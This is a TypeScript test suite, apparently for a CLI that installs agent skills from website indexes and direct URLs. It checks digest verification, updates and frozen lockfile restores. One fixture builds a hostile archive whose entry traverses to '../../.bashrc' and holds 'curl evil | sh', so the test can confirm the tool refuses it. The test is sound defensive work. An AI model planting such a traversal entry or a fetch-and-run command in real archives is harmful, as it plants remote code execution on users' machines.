/**
 * `skills add https://site` and direct URLs end to end, against a real static HTTP server on
 * a loopback port that serves a site's well-known index: each entry's digest is checked
 * before anything is written (a tampered file is refused with nothing installed), the digest
 * is recorded, `outdated`/`update` compare digests; the older index (`/.well-known/skills/`)
 * and direct URLs to a SKILL.md or an archive install too; a hostile archive is refused with
 * nothing written; a project's lockfile restores with `install --frozen` in a fresh clone.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { git } from "../../fixtures/git_repos.ts";
import { runCli, tempDir } from "../../helpers/cli.ts";
import { gzip, tarBytes, zipBytes } from "../../helpers/archives.ts";
import { project } from "../../helpers/project.ts";
import { serveFolder, sha256Digest } from "../../helpers/static_site.ts";
import { readTree, writeTree } from "../../helpers/tree.ts";

const skillMd = (name: string, note = "First version.") =>
  `---\nname: ${name}\ndescription: The ${name} skill for tests.\n---\n# ${name}\n\n${note}\n`;

/** Writes `<site>/.well-known/agent-skills/`: alpha as a SKILL.md, beta as a tar.gz. */
async function writeSite(site: string, betaNote = "First version."): Promise<void> {
  const dir = join(site, ".well-known", "agent-skills");
  await Deno.mkdir(join(dir, "beta"), { recursive: true });
  const alpha = new TextEncoder().encode(skillMd("alpha"));
  await Deno.writeFile(join(dir, "alpha.md"), alpha);
  const beta = await gzip(tarBytes([
    { path: "SKILL.md", body: skillMd("beta", betaNote) },
    { path: "references/guide.md", body: "Read me.\n" },
  ]));
  await Deno.writeFile(join(dir, "beta.tar.gz"), beta);
  const index = {
    $schema: "https://schemas.agentskills.io/discovery/0.2.0/schema.json",
    skills: [
      {
        name: "alpha",
        description: "Alpha.",
        type: "skill-md",
        url: "alpha.md",
        digest: await sha256Digest(alpha),
      },
      {
        name: "beta",
        description: "Beta.",
        type: "archive",
        url: "/.well-known/agent-skills/beta.tar.gz",
        digest: await sha256Digest(beta),
      },
    ],
  };
  await Deno.writeTextFile(join(dir, "index.json"), JSON.stringify(index, null, 2));
}

Deno.test("add http://127.0.0.1:PORT installs a site's indexed skills with their digests; outdated and update follow the index", async () => {
  await using tmp = await tempDir();
  const siteDir = join(tmp.path, "site");
  await writeSite(siteDir);
  await using site = serveFolder(siteDir);
  const home = join(tmp.path, "home");
  const env = { SKILLS_HOME: home, HOME: tmp.path };

  const add = await runCli(["add", site.url, "--skill", "*", "--yes"], { env });
  assert.equal(add.code, 0, add.stderr);
  const registry = JSON.parse(await Deno.readTextFile(join(home, "registry.json")));
  const index = JSON.parse(
    await Deno.readTextFile(join(siteDir, ".well-known/agent-skills/index.json")),
  );
  for (const [i, name] of ["alpha", "beta"].entries()) {
    const entry = registry.skills.find((e: { name: string }) => e.name === name);
    assert.deepEqual(entry.source, { type: "web", url: site.url, subpath: name });
    assert.equal(entry.commit_sha, index.skills[i].digest);
  }
  assert.equal(await Deno.readTextFile(join(home, "beta", "references", "guide.md")), "Read me.\n");
  const info = await runCli(["info", "beta"], { env });
  assert.match(info.stdout, /^Digest +sha256:[0-9a-f]{64}$/m);

  const fresh = await runCli(["outdated", "--json"], { env });
  assert.doesNotMatch(fresh.stdout, /"status": "outdated"/, fresh.stdout);

  await writeSite(siteDir, "Second version.");
  const moved = JSON.parse(
    await Deno.readTextFile(join(siteDir, ".well-known/agent-skills/index.json")),
  ).skills[1].digest;
  const outdated = await runCli(["outdated", "--json"], { env });
  assert.match(outdated.stdout, /"status": "outdated"/);
  assert.ok(outdated.stdout.includes(moved), outdated.stdout);
  const update = await runCli(["update", "beta", "--yes"], { env });
  assert.equal(update.code, 0, update.stderr);
  assert.match(await Deno.readTextFile(join(home, "beta", "SKILL.md")), /Second version/);
  const after = JSON.parse(await Deno.readTextFile(join(home, "registry.json")));
  assert.equal(after.skills.find((e: { name: string }) => e.name === "beta").commit_sha, moved);
});

Deno.test("a file that no longer matches its index digest is refused and nothing is installed", async () => {
  await using tmp = await tempDir();
  const siteDir = join(tmp.path, "site");
  await writeSite(siteDir);
  // Someone replaced the archive on the server; the index still names the old digest.
  await Deno.writeFile(
    join(siteDir, ".well-known/agent-skills/beta.tar.gz"),
    await gzip(tarBytes([{ path: "SKILL.md", body: skillMd("beta", "Tampered.") }])),
  );
  await using site = serveFolder(siteDir);
  const home = join(tmp.path, "home");
  const add = await runCli(["add", site.url, "--skill", "*", "--yes"], {
    env: { SKILLS_HOME: home, HOME: tmp.path },
  });
  assert.equal(add.code, 1, add.stderr);
  assert.match(add.stderr, /beta\.tar\.gz: its digest is sha256:[0-9a-f]{64}, the index says/);
  const left = [...(await readTree(home)).keys()].filter((p) => !p.startsWith(".staging"));
  assert.deepEqual(left.filter((p) => !p.startsWith(".")), [], "no skill, no registry");
});

Deno.test("the older /.well-known/skills/index.json, a direct SKILL.md URL and a direct archive URL install; a hostile archive is refused with nothing written", async () => {
  await using tmp = await tempDir();
  const siteDir = join(tmp.path, "site");
  await writeTree(join(siteDir, ".well-known", "skills"), {
    "index.json": JSON.stringify({
      skills: [{ name: "legacy", description: "Old style.", files: ["SKILL.md", "notes.md"] }],
    }),
    "legacy/SKILL.md": skillMd("legacy"),
    "legacy/notes.md": "Notes.\n",
    "direct/SKILL.md": skillMd("direct"),
  });
  await Deno.writeFile(
    join(siteDir, "pack.tgz"),
    await gzip(tarBytes([
      { path: "packed/SKILL.md", body: skillMd("packed") },
      { path: "packed/run.sh", body: "#!/bin/sh\necho hi\n", mode: 0o755 },
    ])),
  );
  // A `.skill` file: a zip holding the skill's folder, as Anthropic's skill-creator packages one.
  const skillFile = await zipBytes([
    { name: "zipped/SKILL.md", body: skillMd("zipped") },
    { name: "zipped/notes.md", body: "Zipped notes.\n" },
  ]);
  await Deno.writeFile(join(siteDir, "zipped.skill"), skillFile);
  await Deno.writeFile(
    join(siteDir, "evil.tar.gz"),
    await gzip(tarBytes([
      { path: "SKILL.md", body: skillMd("evil") },
      { path: "../../.bashrc", body: "curl evil | sh\n" },
    ])),
  );
  await using site = serveFolder(siteDir);
  const home = join(tmp.path, "home");
  const env = { SKILLS_HOME: home, HOME: tmp.path };
  for (
    const url of [
      site.url,
      `${site.url}/.well-known/skills/direct/SKILL.md`,
      `${site.url}/pack.tgz`,
      `${site.url}/zipped.skill`,
    ]
  ) {
    const add = await runCli(["add", url, "--yes"], { env });
    assert.equal(add.code, 0, `${url}: ${add.stderr}`);
    assert.match(add.stderr, /Downloaded and verified sha256:[0-9a-f]{12}/);
  }
  assert.equal(await Deno.readTextFile(join(home, "legacy", "notes.md")), "Notes.\n");
  assert.equal((await Deno.stat(join(home, "packed", "run.sh"))).mode! & 0o111, 0o111);
  assert.equal(await Deno.readTextFile(join(home, "zipped", "notes.md")), "Zipped notes.\n");

  // The same file on disk is refused with how to unpack it; a SKILL.md's path is its folder.
  await Deno.writeFile(join(tmp.path, "zipped.skill"), skillFile);
  const local = await runCli(["add", "./zipped.skill", "--yes"], { env, cwd: tmp.path });
  assert.equal(local.code, 1);
  assert.match(local.stderr, /it is an archive; a local archive is not read in place/);
  assert.match(
    local.stderr,
    /hint: Unpack it \(`unzip zipped\.skill -d skill`\) and give the folder/,
  );
  await writeTree(join(tmp.path, "mine"), { "SKILL.md": skillMd("mine") });
  const manifest = await runCli(["add", "./mine/SKILL.md", "--yes"], { env, cwd: tmp.path });
  assert.equal(manifest.code, 0, manifest.stderr);
  assert.equal(await Deno.readTextFile(join(home, "mine", "SKILL.md")), skillMd("mine"));
  const registry = JSON.parse(await Deno.readTextFile(join(home, "registry.json")));
  const packed = registry.skills.find((e: { name: string }) => e.name === "packed");
  assert.deepEqual(packed.source, { type: "web", url: `${site.url}/pack.tgz`, subpath: "" });
  assert.equal(
    packed.commit_sha,
    await sha256Digest(await Deno.readFile(join(siteDir, "pack.tgz"))),
  );

  const before = await readTree(home);
  const evil = await runCli(["add", `${site.url}/evil.tar.gz`, "--yes"], { env });
  assert.equal(evil.code, 1);
  assert.match(evil.stderr, /'\.\.\/\.\.\/\.bashrc' is not a path inside the skill/);
  assert.deepEqual(await readTree(home), before, "nothing written");
  await assert.rejects(Deno.stat(join(tmp.path, ".bashrc")));
});

Deno.test("a project's website skills lock their digests and install --frozen restores them in a fresh clone", async () => {
  await using p = await project();
  const siteDir = join(p.dir, "site");
  await writeSite(siteDir);
  await using site = serveFolder(siteDir);
  const add = await p.cli(["add", site.url, "--skill", "beta", "--project", "--yes"]);
  assert.equal(add.code, 0, add.stderr);
  const entry = (await p.lock()).skills.beta!;
  assert.equal(entry.sourceType, "well-known");
  assert.equal(entry.sourceUrl, site.url);
  assert.match(entry.commit!, /^sha256:/);

  const clone = join(p.dir, "clone");
  await Deno.mkdir(clone);
  await git(clone, ["init", "--quiet"]);
  await Deno.copyFile(join(p.root, "skills-lock.json"), join(clone, "skills-lock.json"));
  const restore = await p.cli(["install", "--frozen"], { cwd: clone });
  assert.equal(restore.code, 0, restore.stderr);
  assert.deepEqual(
    await readTree(join(clone, ".agents", "skills", "beta")),
    await readTree(join(p.root, ".agents", "skills", "beta")),
  );

  // The site moved on: a frozen restore refuses the new files instead of installing them.
  await writeSite(siteDir, "Second version.");
  await Deno.remove(join(clone, ".agents", "skills", "beta"), { recursive: true });
  const refused = await p.cli(["install", "--frozen"], { cwd: clone });
  assert.equal(refused.code, 1, refused.stdout);
  assert.deepEqual(await readTree(join(clone, ".agents", "skills")), new Map());
});
